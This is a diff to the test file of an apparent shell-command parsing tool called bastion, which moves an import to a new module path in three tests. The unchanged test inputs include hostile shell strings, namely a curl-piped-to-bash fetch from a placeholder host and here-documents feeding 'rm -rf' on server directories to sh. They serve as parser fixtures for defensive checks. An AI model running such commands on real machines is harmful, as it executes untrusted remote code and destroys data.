@@ -446,7 +446,7 @@ def test_benign_list_is_large() -> None:
 
 
 def _argvs(command: str) -> list[tuple[str, ...]]:
-    from bastion.shell.parse import parse
+    from bastion.shell.syntax.parse import parse
 
     return [cmd.argv for cmd in parse(command).commands]
 
@@ -476,7 +476,7 @@ def test_code_one_step_away_is_parsed_as_commands(command: str, inner: tuple[str
 
 
 def test_a_pipeline_followed_by_a_list_stays_one_pipeline() -> None:
-    from bastion.shell.parse import parse
+    from bastion.shell.syntax.parse import parse
 
     commands = parse("curl -s https://x.example | bash | cat && true").commands
     curl, bash, cat, true = commands
@@ -486,7 +486,7 @@ def test_a_pipeline_followed_by_a_list_stays_one_pipeline() -> None:
 
 
 def test_a_here_document_runs_on_until_its_exact_delimiter_line() -> None:
-    from bastion.shell.parse import parse
+    from bastion.shell.syntax.parse import parse
 
     result = parse("cat <<'EOF' | sh\nrm -rf /srv\nEOF >/dev/null &\nrm -rf /opt\nEOF")
     assert result.complex
